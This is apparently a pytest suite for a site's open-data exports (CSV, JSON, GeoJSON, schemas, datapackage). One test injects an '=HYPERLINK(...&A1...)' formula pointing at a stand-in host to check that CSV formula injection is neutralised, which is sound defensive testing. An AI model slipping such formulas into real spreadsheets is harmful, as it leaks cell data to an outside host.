"""Open-data exports (docs/contrat.md §7): one row per published entry, none for drafts, valid CSV, GeoJSON, schemas and package."""

from __future__ import annotations

import csv
import datetime
import hashlib
import io
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from conftest import replace, write

from mesbox.checking.checker import check
from mesbox.cli.main import main
from mesbox.contract.registry import COLLECTIONS
from mesbox.publishing.exports import COMMON_FIELDS, CSV_EXTRA, column_doc, export_files, write_exports

SITE = "https://exemple.org/"
# Sorted by collection (fiches, monographies, recits, grilles, parcours), then id.
PUBLISHED = ["initiative-solidaire", "seminaire", "visite-colombelles", "recit-colombelles", "grille-test", "preparer-une-visite"]
FILES = {
    "catalogue.json",
    "catalogue.csv",
    "catalogue-tableur.csv",
    "territoires.geojson",
    "datapackage.json",
    "schemas/fiches.schema.json",
    "schemas/monographies.schema.json",
    "schemas/recits.schema.json",
    "schemas/grilles.schema.json",
    "schemas/parcours.schema.json",
}
ENTRY_FILES = {
    "fiches": ["fiches/initiative-solidaire.md", "fiches/methodes/seminaire.md", "fiches/brouillon.md"],
    "monographies": ["monographies/visite-colombelles.md"],
    "recits": ["content/recits/recit-colombelles.md"],
    "grilles": ["grids/grille-test.md"],
    "parcours": ["parcours/preparer-une-visite.md"],
}


def exports(repo: Path, site_url: str = "") -> dict[str, bytes]:
    return export_files(check(repo).catalogue, site_url)


def entries_json(files: dict[str, bytes]) -> list[dict[str, Any]]:
    return json.loads(files["catalogue.json"])["entries"]


def csv_rows(files: dict[str, bytes]) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(files["catalogue.csv"].decode("utf-8"), newline="")))


def front_matters(repo: Path) -> dict[str, dict[str, Any]]:
    """Each entry's front-matter (drafts too) as parsed by the checker, turned into JSON data (dates as ISO strings)."""
    catalogue = check(repo).catalogue
    return {
        entry.path: json.loads(json.dumps(entry.data.value, default=lambda v: v.isoformat() if isinstance(v, datetime.date) else str(v)))
        for entry in [*catalogue.entries.values(), *catalogue.drafts.values()]
    }


def front_matter(repo: Path, rel: str) -> dict[str, Any]:
    return front_matters(repo)[rel]


# --- catalogue.json ---------------------------------------------------------------------------


def test_every_file_is_written(repo: Path) -> None:
    assert set(exports(repo)) == FILES


def test_a_path_keeps_its_steps_in_json_and_their_entries_in_csv(repo: Path) -> None:
    files = exports(repo, SITE)
    path = next(e for e in json.loads(files["catalogue.json"])["entries"] if e["id"] == "preparer-une-visite")
    assert [step["entry"] for step in path["steps"]] == ["initiative-solidaire", "seminaire"]
    assert path["steps"][1] == {"entry": "seminaire", "instruction": "Préparer les questions du séminaire réflexif", "duration": 70}
    row = next(r for r in csv.DictReader(io.StringIO(files["catalogue.csv"].decode("utf-8"))) if r["id"] == "preparer-une-visite")
    assert row["steps"] == "initiative-solidaire;seminaire" and row["audiences"] == "citoyens"


def test_catalogue_json_shape_and_order(repo: Path) -> None:
    data = json.loads(exports(repo, SITE)["catalogue.json"])
    assert set(data) == {"generated_by", "licence_note", "entries"} and data["generated_by"] == "mesbox"
    entries = data["entries"]
    assert [e["id"] for e in entries] == PUBLISHED
    specific = {
        "fiches": ["kind", "number", "audiences"],
        "monographies": ["initiative", "grid", "visit", "dimensions"],
        "recits": ["format", "media", "voices"],
        "grilles": ["dimensions", "adapted_from"],
        "parcours": ["audiences", "objectives", "prerequisites", "steps"],
    }
    for entry in entries:
        assert list(entry) == [*COMMON_FIELDS, *specific[entry["collection"]]]


def test_catalogue_json_values(repo: Path) -> None:
    entries = {e["id"]: e for e in entries_json(exports(repo, SITE))}
    fiche = entries["initiative-solidaire"]
    assert fiche["url"] == "https://exemple.org/fiches/initiative-solidaire/"
    assert fiche["kind"] == "thematique" and fiche["number"] == "2.1" and fiche["audiences"] == ["elus", "citoyens"]
    assert fiche["cited_by"] == ["visite-colombelles"]
    assert fiche["licence"] == "CC-BY-SA-4.0" and fiche["date"] == "2026-01-15" and fiche["updated"] is None
    assert entries["seminaire"]["licence"] == "CC-BY-4.0" and entries["seminaire"]["updated"] == "2026-03-01"
    assert entries["seminaire"]["cited_by"] == ["initiative-solidaire"]  # through a [[seminaire]] link in the body
    mono = entries["visite-colombelles"]
    assert mono["grid"] == "grille-test" and list(mono["dimensions"]) == ["accompagnement", "cooperation"]
    assert mono["visit"] is None and mono["related"] == ["initiative-solidaire"]
    grid = entries["grille-test"]
    assert [d["id"] for d in grid["dimensions"]] == ["accompagnement", "cooperation"]
    assert grid["dimensions"][0]["questions"] == ["Qui accompagne qui ?"] and grid["adapted_from"] is None
    assert entries["recit-colombelles"]["format"] == "texte" and entries["recit-colombelles"]["media"] is None


def test_period_is_exported_as_written_and_checked_by_the_schema(repo: Path) -> None:
    replace(repo, "fiches/methodes/seminaire.md", "kind: methode", "kind: methode\nperiod: 2017-11-29")
    files = exports(repo)
    assert {e["id"]: e["period"] for e in entries_json(files)} == {e: ("2017-11-29" if e == "seminaire" else None) for e in PUBLISHED}
    assert {r["id"]: r["period"] for r in csv_rows(files)}["seminaire"] == "2017-11-29"
    column = next(f for f in json.loads(files["datapackage.json"])["resources"][0]["schema"]["fields"] if f["name"] == "period")
    assert column["title"] == "Période couverte"
    jsonschema = pytest.importorskip("jsonschema")
    validator = jsonschema.Draft202012Validator(json.loads(files["schemas/fiches.schema.json"]))
    data = front_matter(repo, "fiches/initiative-solidaire.md")
    assert list(validator.iter_errors({**data, "period": "2021-04/2022-03"})) == []
    assert list(validator.iter_errors({**data, "period": "29/11/2017"}))


def test_urls_are_site_relative_without_site_url(repo: Path) -> None:
    files = exports(repo)
    assert entries_json(files)[0]["url"] == "/fiches/initiative-solidaire/"
    assert csv_rows(files)[0]["url"] == "/fiches/initiative-solidaire/"


def test_json_keeps_accents(repo: Path) -> None:
    raw = exports(repo)["catalogue.json"].decode("utf-8")
    assert "Équipe de test" in raw and "\\u00c9" not in raw


def test_drafts_appear_nowhere(repo: Path) -> None:
    # The draft also names a territory and a licence of its own: neither its id, its title nor its licence may leak.
    replace(repo, "fiches/brouillon.md", "draft: true", "territories: [colombelles]\nlicence: CC0-1.0\ndraft: true")
    files = exports(repo, SITE)
    for name in ("catalogue.json", "catalogue.csv", "territoires.geojson"):
        assert b"brouillon" not in files[name] and b"CC0-1.0" not in files[name], name
    for name, content in files.items():
        assert b"Une fiche en brouillon" not in content, name
    assert len(entries_json(files)) == len(csv_rows(files)) == len(PUBLISHED)
    assert json.loads(files["territoires.geojson"])["features"][0]["properties"]["entries"] == 2
    assert "CC0-1.0" not in [licence["name"] for licence in json.loads(files["datapackage.json"])["licenses"]]


def exports_digest_in_a_new_process(repo: Path, hash_seed: str) -> str:
    """The exports' digest computed by a fresh interpreter: set and dict orders that depend on string
    hashing change with PYTHONHASHSEED, so two processes with two seeds catch them."""
    code = (
        "import hashlib, sys; from pathlib import Path; from mesbox.checking.checker import check; from mesbox.publishing.exports import export_files; "
        "files = export_files(check(Path(sys.argv[1])).catalogue, sys.argv[2]); "
        "print(hashlib.sha256(repr(sorted(files.items())).encode()).hexdigest())"
    )
    env = {**os.environ, "PYTHONHASHSEED": hash_seed}
    return subprocess.run([sys.executable, "-c", code, str(repo), SITE], env=env, capture_output=True, text=True, check=True).stdout.strip()


def test_exports_are_the_same_bytes_in_every_process(repo: Path) -> None:
    here = hashlib.sha256(repr(sorted(exports(repo, SITE).items())).encode()).hexdigest()
    assert exports_digest_in_a_new_process(repo, "1") == exports_digest_in_a_new_process(repo, "2") == here


def test_a_reference_to_a_draft_is_not_exported(repo: Path) -> None:
    """With errors, the export is still written; a published entry pointing at a draft does not leak its id."""
    replace(repo, "monographies/visite-colombelles.md", "related: [initiative-solidaire]", "related: [initiative-solidaire, brouillon]")
    assert any(issue.code == "E105" for issue in check(repo).issues)
    files = exports(repo)
    assert b"brouillon" not in files["catalogue.json"] and b"brouillon" not in files["catalogue.csv"]


# --- catalogue.csv ----------------------------------------------------------------------------


def test_csv_rows_and_lists(repo: Path) -> None:
    files = exports(repo)
    raw = files["catalogue.csv"]
    assert not raw.startswith(b"\xef\xbb\xbf")
    assert raw.count(b"\r\n") == len(PUBLISHED) + 1 and b"\n" not in raw.replace(b"\r\n", b"")
    rows = csv_rows(files)
    assert [r["id"] for r in rows] == PUBLISHED
    row = rows[0]
    assert row["themes"] == "economie-solidaire;cooperation" and row["audiences"] == "elus;citoyens"
    assert row["authors"] == "Équipe de test" and row["updated"] == "" and row["methods"] == ""
    mono = next(r for r in rows if r["id"] == "visite-colombelles")
    assert mono["themes"] == "emploi;economie-solidaire" and mono["grid"] == "grille-test" and mono["kind"] == ""


def test_csv_round_trips_hostile_text(repo: Path) -> None:
    hostile = 'Virgule, "guillemets" ; point-virgule\net retour à la ligne'
    replace(
        repo,
        "fiches/initiative-solidaire.md",
        "description: Une fiche thématique de test sur l'économie solidaire et ses initiatives.",
        "description: " + json.dumps(hostile, ensure_ascii=False),
    )
    files = exports(repo)
    assert check(repo).ok
    row = next(r for r in csv_rows(files) if r["id"] == "initiative-solidaire")
    assert row["description"] == hostile
    assert next(e for e in entries_json(files) if e["id"] == "initiative-solidaire")["description"] == hostile
    assert len(csv_rows(files)) == len(PUBLISHED)


def test_spreadsheet_csv_has_the_same_cells_for_a_french_spreadsheet(repo: Path) -> None:
    """BOM, `;` between cells, French column names; otherwise the very cells of catalogue.csv, hostile text included."""
    replace(repo, "fiches/initiative-solidaire.md", "title: Qu'est-ce qu'une initiative solidaire ?", 'title: "Virgule, ; point-virgule et « guillemets »"')
    files = exports(repo)
    raw = files["catalogue-tableur.csv"]
    assert raw.startswith(b"\xef\xbb\xbf") and raw.count(b"\r\n") == len(PUBLISHED) + 1
    table = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert table[0][:5] == ["Identifiant", "Collection", "Titre", "Description", "Adresse"]
    plain = list(csv.reader(io.StringIO(files["catalogue.csv"].decode("utf-8"), newline="")))
    assert table[1:] == plain[1:] and len(table[0]) == len(plain[0])
    assert csv.Sniffer().sniff(raw.decode("utf-8-sig").splitlines()[0]).delimiter == ";"
    # LibreOffice's import dialog splits on commas, semicolons and tabs at once unless told otherwise.
    lines = raw.decode("utf-8-sig").split("\r\n")[:-1]
    assert [_split_on_any_separator(line) for line in lines] == table


def _split_on_any_separator(line: str) -> list[str]:
    """One CSV line's cells, split on a comma, a semicolon or a tab outside quotes (LibreOffice's defaults)."""
    cells: list[str] = []
    cell: list[str] = []
    quoted = False
    i = 0
    while i < len(line):
        char = line[i]
        if quoted and char == '"' and line[i + 1 : i + 2] == '"':
            cell.append('"')
            i += 1
        elif char == '"':
            quoted = not quoted
        elif not quoted and char in ",;\t":
            cells.append("".join(cell))
            cell = []
        else:
            cell.append(char)
        i += 1
    return [*cells, "".join(cell)]


def test_open_data_page_explains_every_column_in_french() -> None:
    """/donnees/ names each column as the spreadsheet file does, with the field's name for programs and its meaning."""
    page = (Path(__file__).resolve().parent.parent / "content" / "donnees.md").read_text(encoding="utf-8")
    for name in (*COMMON_FIELDS, *CSV_EXTRA):
        label, meaning = column_doc(name)
        assert f"| {label} | `{name}` | {meaning} |" in page, name
    assert "donnees/catalogue-tableur.csv){ .md-button .md-button--primary download }" in page


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_csv_neutralises_formulas_json_keeps_them(repo: Path, start: str) -> None:
    """A title a spreadsheet would run (`=HYPERLINK(…)`) starts with an apostrophe in the CSV only."""
    title = f'{start}HYPERLINK("https://exemple.org/?"&A1;"clic")'
    replace(repo, "fiches/initiative-solidaire.md", "title: Qu'est-ce qu'une initiative solidaire ?", "title: " + json.dumps(title))
    replace(repo, "fiches/initiative-solidaire.md", "authors: [Équipe de test]", "authors: ['@équipe', Équipe de test]")
    assert check(repo).ok
    files = exports(repo)
    row = next(r for r in csv_rows(files) if r["id"] == "initiative-solidaire")
    assert row["title"] == "'" + title
    assert row["authors"] == "'@équipe;Équipe de test"
    assert all(not value.startswith(("=", "+", "-", "@")) for r in csv_rows(files) for value in r.values())
    spreadsheet = list(csv.reader(io.StringIO(files["catalogue-tableur.csv"].decode("utf-8-sig"), newline=""), delimiter=";"))
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in spreadsheet for cell in row)
    record = next(e for e in entries_json(files) if e["id"] == "initiative-solidaire")
    assert (record["title"], record["authors"]) == (title, ["@équipe", "Équipe de test"])


def test_csv_flattens_the_visit(repo: Path) -> None:
    replace(
        repo,
        "monographies/visite-colombelles.md",
        "grid: grille-test",
        "grid: grille-test\nvisit:\n  start: 2025-10-02\n  end: 2025-10-03\n  participants: 24",
    )
    files = exports(repo)
    row = next(r for r in csv_rows(files) if r["id"] == "visite-colombelles")
    assert (row["visit_start"], row["visit_end"], row["visit_participants"]) == ("2025-10-02", "2025-10-03", "24")
    mono = next(e for e in entries_json(files) if e["id"] == "visite-colombelles")
    assert mono["visit"] == {"start": "2025-10-02", "end": "2025-10-03", "participants": 24}


# --- territoires.geojson ----------------------------------------------------------------------


def test_geojson_point_and_properties(repo: Path) -> None:
    geo = json.loads(exports(repo, SITE)["territoires.geojson"])
    assert geo["type"] == "FeatureCollection"
    [feature] = geo["features"]  # the region and the département have no coordinates
    assert feature["type"] == "Feature"
    assert feature["geometry"] == {"type": "Point", "coordinates": [-0.2975, 49.2014]}
    assert feature["properties"] == {
        "id": "colombelles",
        "label": "Colombelles",
        "kind": "commune",
        "insee": "14167",
        "url": "https://exemple.org/territoires/colombelles/",
        "entries": 2,
    }


def test_geojson_counts_include_descendants_not_drafts(repo: Path) -> None:
    replace(repo, "taxonomies/territories.yml", 'insee: "28"', 'insee: "28"\n  lat: 49.12\n  lon: 0.11')
    replace(repo, "taxonomies/territories.yml", 'insee: "14"', 'insee: "14"\n  lat: 49.09\n  lon: -0.36')
    replace(repo, "fiches/brouillon.md", "draft: true", "territories: [colombelles]\ndraft: true")
    assert check(repo).ok
    geo = json.loads(exports(repo)["territoires.geojson"])
    counts = {f["properties"]["id"]: f["properties"]["entries"] for f in geo["features"]}
    # normandie: the fiche on the region itself + the monograph and the story on Colombelles (commune of the Calvados).
    assert counts == {"calvados": 2, "colombelles": 2, "normandie": 3}
    assert [f["properties"]["id"] for f in geo["features"]] == ["calvados", "colombelles", "normandie"]
    assert next(f for f in geo["features"] if f["properties"]["id"] == "calvados")["properties"]["kind"] == "departement"


def test_geojson_keeps_unused_territories(repo: Path) -> None:
    replace(
        repo,
        "taxonomies/territories.yml",
        "- id: normandie",
        '- id: caen\n  label: Caen\n  kind: commune\n  insee: "14118"\n  parent: calvados\n  lat: 49.18\n  lon: -0.37\n- id: normandie',
    )
    geo = json.loads(exports(repo)["territoires.geojson"])
    caen = next(f for f in geo["features"] if f["properties"]["id"] == "caen")
    assert caen["properties"]["entries"] == 0


# --- schemas ----------------------------------------------------------------------------------


@pytest.mark.parametrize("collection", list(COLLECTIONS))
def test_schema_structure(repo: Path, collection: str) -> None:
    schema = json.loads(exports(repo, SITE)[f"schemas/{collection}.schema.json"])
    assert schema["$schema"] == "https://json-schema.org/draft/2020-12/schema"
    assert schema["$id"] == f"https://exemple.org/donnees/schemas/{collection}.schema.json"
    assert schema["title"].startswith("En-tête d'une entrée") and schema["type"] == "object"
    assert schema["additionalProperties"] is False
    model = COLLECTIONS[collection].model
    assert set(schema["properties"]) == set(model.model_fields)
    assert set(schema["required"]) == {name for name, field in model.model_fields.items() if field.is_required()}
    assert {"title", "description", "authors", "date"} <= set(schema["required"])
    assert schema["properties"]["licence"]["enum"] == ["CC-BY-SA-4.0", "CC-BY-4.0", "CC0-1.0", "etalab-2.0"]
    assert schema["properties"]["authors"]["uniqueItems"] is True


def test_schema_requirements_per_collection(repo: Path) -> None:
    files = exports(repo)
    required = {c: set(json.loads(files[f"schemas/{c}.schema.json"])["required"]) for c in COLLECTIONS}
    assert {"themes", "kind"} <= required["fiches"]
    assert {"themes", "initiative", "territories", "actors"} <= required["monographies"]
    assert {"themes", "format", "territories"} <= required["recits"]
    assert "dimensions" in required["grilles"] and "themes" not in required["grilles"]
    assert json.loads(files["schemas/fiches.schema.json"])["$id"] == "/donnees/schemas/fiches.schema.json"


@pytest.mark.parametrize("collection", list(COLLECTIONS))
def test_schema_validates_the_front_matter_the_model_accepts(repo: Path, collection: str) -> None:
    jsonschema = pytest.importorskip("jsonschema")
    schema = json.loads(exports(repo)[f"schemas/{collection}.schema.json"])
    jsonschema.Draft202012Validator.check_schema(schema)
    validator = jsonschema.Draft202012Validator(schema, format_checker=jsonschema.FormatChecker())
    found = front_matters(repo)
    for rel in ENTRY_FILES[collection]:
        data = found[rel]
        COLLECTIONS[collection].model.model_validate(data)
        assert list(validator.iter_errors(data)) == [], rel


@pytest.mark.parametrize(
    ("change", "value"),
    [
        ("themse", ["cooperation"]),  # unknown key
        ("licence", "CC-BY-NC-4.0"),  # closed licence
        ("themes", ["cooperation", "cooperation"]),  # duplicate
        ("kind", "autre"),
        ("number", "2.x"),
        ("number", "２.１"),  # full-width digits
        ("number", "1" * 5000),
        ("number", "1.2.3.4.5.6"),
        ("authors", ["Alice; Bob"]),
        ("date", "15/01/2026"),
        ("authors", []),
    ],
)
def test_schema_refuses_what_the_model_refuses(repo: Path, change: str, value: Any) -> None:
    jsonschema = pytest.importorskip("jsonschema")
    schema = json.loads(exports(repo)["schemas/fiches.schema.json"])
    validator = jsonschema.Draft202012Validator(schema, format_checker=jsonschema.FormatChecker())
    data = {**front_matter(repo, "fiches/initiative-solidaire.md"), change: value}
    assert list(validator.iter_errors(data)), change
    with pytest.raises(ValueError):
        COLLECTIONS["fiches"].model.model_validate(data)


def test_schema_of_grids_checks_dimension_ids(repo: Path) -> None:
    jsonschema = pytest.importorskip("jsonschema")
    schema = json.loads(exports(repo)["schemas/grilles.schema.json"])
    data = front_matter(repo, "grids/grille-test.md")
    data["dimensions"][0]["id"] = "Posture Accompagnement"
    assert list(jsonschema.Draft202012Validator(schema).iter_errors(data))


# --- datapackage.json -------------------------------------------------------------------------


def test_datapackage_describes_the_files(repo: Path) -> None:
    files = exports(repo, SITE)
    package = json.loads(files["datapackage.json"])
    assert package["name"] == "mesbox-catalogue" and "Économie Solidaire" in package["title"]
    assert package["homepage"] == SITE
    resources = {r["name"]: r for r in package["resources"]}
    assert [r["path"] for r in package["resources"]] == ["catalogue.csv", "catalogue.json", "territoires.geojson"]
    assert all(r["path"] in files for r in package["resources"])
    header = next(csv.reader(io.StringIO(files["catalogue.csv"].decode("utf-8"), newline="")))
    fields = resources["catalogue"]["schema"]["fields"]
    assert [f["name"] for f in fields] == header
    types = {f["name"]: f["type"] for f in fields}
    assert types["date"] == types["updated"] == "date" and types["visit_participants"] == "integer" and types["title"] == "string"
    assert resources["catalogue"]["schema"]["primaryKey"] == ["id"]
    assert "entries" in resources["catalogue-json"]["description"]
    assert [licence["name"] for licence in package["licenses"]] == ["CC-BY-SA-4.0", "CC-BY-4.0"]  # those in use


def test_datapackage_is_valid_frictionless(repo: Path, tmp_path: Path) -> None:
    frictionless = pytest.importorskip("frictionless")
    out = tmp_path / "donnees"
    write_exports(check(repo).catalogue, out, SITE)
    report = frictionless.validate(out / "datapackage.json")
    assert report.valid, report.flatten(["resourceName", "rowNumber", "fieldName", "type", "note"])


# --- writing and the command line -------------------------------------------------------------


def test_write_exports(repo: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    catalogue = check(repo).catalogue
    written = write_exports(catalogue, out)
    assert {p.relative_to(out).as_posix() for p in written} == FILES
    for path in written:
        assert path.read_bytes() == export_files(catalogue)[path.relative_to(out).as_posix()]
    assert write_exports(catalogue, out) == written  # overwrites in place


def test_cli_export_valid_repo(repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "donnees"
    assert main(["export", "--root", str(repo), "--out", str(out), "--site-url", SITE]) == 0
    assert {p.relative_to(out).as_posix() for p in out.rglob("*") if p.is_file()} == FILES
    entries = json.loads((out / "catalogue.json").read_text(encoding="utf-8"))["entries"]
    assert [e["id"] for e in entries] == PUBLISHED
    assert entries[0]["url"] == "https://exemple.org/fiches/initiative-solidaire/"
    assert f"{len(FILES)} fichiers écrits" in capsys.readouterr().out


def test_cli_export_with_errors_exits_1_and_keeps_valid_entries(repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    write(repo, "fiches/cassee.md", "---\ntitle: Une fiche cassée\ndescription: trop court\n---\nCorps.\n")
    out = tmp_path / "donnees"
    assert main(["export", "--root", str(repo), "--out", str(out)]) == 1
    assert "fiches/cassee.md" in capsys.readouterr().err
    ids = [e["id"] for e in json.loads((out / "catalogue.json").read_text(encoding="utf-8"))["entries"]]
    assert ids == PUBLISHED
    rows = list(csv.DictReader(io.StringIO((out / "catalogue.csv").read_text(encoding="utf-8"), newline="")))
    assert [r["id"] for r in rows] == PUBLISHED
